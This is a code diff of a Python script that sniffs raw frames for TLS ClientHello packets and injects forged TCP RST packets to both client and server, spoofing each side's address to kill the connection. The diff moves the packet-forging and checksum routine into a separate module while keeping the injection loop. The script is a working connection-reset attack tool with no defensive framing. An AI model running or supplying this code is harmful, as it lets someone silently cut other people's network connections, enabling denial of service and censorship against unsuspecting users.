@@ -8,9 +8,10 @@ import socket
 import struct
 import sys
 
+from forging import reset
+
 HOP_LIMIT = 101
 ALL_PROTOCOLS, HANDSHAKE, CLIENT_HELLO = 3, 22, 1
-RST, ACK = 4, 16
 
 
 def client_hello(frame):
@@ -26,22 +27,6 @@ def client_hello(frame):
     return (packet[12:16], client_port), (packet[16:20], server_port), sequence, acknowledgment, len(payload)
 
 
-def checksum(octets):
-    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
-    while total >> 16:
-        total = (total & 0xFFFF) + (total >> 16)
-    return ~total & 0xFFFF
-
-
-def reset(source, target, sequence, acknowledgment):
-    """A whole packet; its own checksum is the kernel's affair."""
-    segment = struct.pack("!HHIIBBHHH", source[1], target[1], sequence, acknowledgment, 5 << 4, RST | ACK, 0, 0, 0)
-    summed = checksum(source[0] + target[0] + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment)) + segment)
-    segment = segment[:16] + struct.pack("!H", summed) + segment[18:]
-    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, HOP_LIMIT, socket.IPPROTO_TCP, 0, source[0], target[0])
-    return header + segment
-
-
 def main():
     frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
     frames.bind((sys.argv[1], ALL_PROTOCOLS))
@@ -54,9 +39,9 @@ def main():
             continue
         client, server, sequence, acknowledgment, length = seen
         after = (sequence + length) & 0xFFFFFFFF
-        forged.sendto(reset(server, client, acknowledgment, after), (socket.inet_ntoa(client[0]), 0))
+        forged.sendto(reset(server, client, acknowledgment, after, HOP_LIMIT), (socket.inet_ntoa(client[0]), 0))
         print(f"reset {socket.inet_ntoa(client[0])}:{client[1]} in the server's name", flush=True)
-        forged.sendto(reset(client, server, after, acknowledgment), (socket.inet_ntoa(server[0]), 0))
+        forged.sendto(reset(client, server, after, acknowledgment, HOP_LIMIT), (socket.inet_ntoa(server[0]), 0))
         print(f"reset {socket.inet_ntoa(server[0])}:{server[1]} in the client's name", flush=True)
 
 
